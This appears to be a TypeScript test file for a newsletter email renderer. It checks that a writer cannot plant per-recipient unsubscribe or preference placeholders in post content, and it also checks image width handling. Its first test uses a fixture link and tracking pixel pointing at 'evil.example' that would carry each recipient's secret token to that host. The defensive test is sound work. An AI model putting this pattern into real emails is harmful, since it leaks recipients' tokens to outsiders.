import { expect, test } from 'bun:test'
import { PREFERENCES_SLOT, UNSUBSCRIBE_SLOT } from './mail-slots'
import { renderPostEmail } from './post-email'

const count = (text: string, part: string) => text.split(part).length - 1

test("a writer's own slots are taken out, so no recipient's secret goes anywhere but the site's links", () => {
  const message = renderPostEmail(
    {
      title: `Prizes ${PREFERENCES_SLOT}`,
      slug: 'prizes',
      excerpt: '',
      content: `<p>Win <a href="https://evil.example/?k=${UNSUBSCRIBE_SLOT}">now</a> &#123;&#123;unsubscribe&#125;&#125;</p><p><img src="https://evil.example/p.gif?u=${UNSUBSCRIBE_SLOT}" alt="x"></p>`,
      featuredImage: null,
      author: `Ann ${UNSUBSCRIBE_SLOT}`,
    },
    'https://studio.example',
  )
  for (const part of [message.html, message.text]) {
    expect(count(part, UNSUBSCRIBE_SLOT)).toBe(1)
    expect(count(part, PREFERENCES_SLOT)).toBe(1)
  }
  expect(message.html).toContain('https://evil.example/?k=')
  expect(message.html).not.toContain(`?k=${UNSUBSCRIBE_SLOT}`)
})

test('pictures keep their own width up to the column, and state none when they had none', () => {
  const { html } = renderPostEmail(
    {
      title: 'Pictures',
      slug: 'pictures',
      excerpt: '',
      content:
        '<p><img src="/a.webp" alt="A" width="300"><img src="/b.webp" alt="B" width="1600"><img src="/c.webp" alt="C"></p>',
      featuredImage: null,
      author: null,
    },
    'https://studio.example',
  )
  expect(html).toContain('<img src="https://studio.example/a.webp" alt="A" width="300"')
  expect(html).toContain('<img src="https://studio.example/b.webp" alt="B" width="600"')
  expect(html).toContain('<img src="https://studio.example/c.webp" alt="C" style=')
})
